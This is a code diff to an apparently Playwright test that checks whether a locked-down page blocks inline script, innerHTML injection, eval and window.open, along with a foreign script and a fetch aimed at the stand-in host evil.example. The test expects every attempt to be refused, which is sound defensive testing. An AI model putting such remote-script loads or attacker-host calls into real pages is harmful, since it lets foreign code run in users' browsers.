@@ -38,13 +38,24 @@ test("the page cannot leave, open windows, run foreign code or reach the network
     document.addEventListener("securitypolicyviolation", (event) =>
       violations.push(event.effectiveDirective),
     );
+    const attempt = (work: () => void) => {
+      try {
+        work();
+        return "taken";
+      } catch {
+        return "refused";
+      }
+    };
     const script = document.createElement("script");
-    let trusted = "refused";
-    try {
+    const inline = attempt(() => {
       script.text = "window.hacked = true";
-      trusted = "taken";
-    } catch {}
-    script.src = "https://evil.example/x.js";
+    });
+    const foreign = attempt(() => {
+      script.src = "https://evil.example/x.js";
+    });
+    const markup = attempt(() => {
+      document.body.innerHTML = "<b>markup</b>";
+    });
     document.head.append(script);
     const fetched = await fetch("https://evil.example/").then(
       () => "reached",
@@ -56,24 +67,25 @@ test("the page cannot leave, open windows, run foreign code or reach the network
       image.onerror = resolve;
       image.onload = resolve;
     });
-    let evaluated = "refused";
-    try {
-      evaluated = String(new Function("return 'ran'")());
-    } catch {}
+    const evaluated = attempt(() => new Function("return 'ran'")());
     const opened = window.open("https://127.0.0.1:1/");
     return {
-      violations: [...new Set(violations)].sort(),
-      trusted,
+      inline,
+      foreign,
+      markup,
       fetched,
       evaluated,
       opened: opened === null,
       hacked: "hacked" in window,
+      violations: [...new Set(violations)],
     };
   });
   expect(tried).toMatchObject({
+    inline: "refused",
+    foreign: "refused",
+    markup: "refused",
     fetched: "refused",
     evaluated: "refused",
-    trusted: "refused",
     opened: true,
     hacked: false,
   });
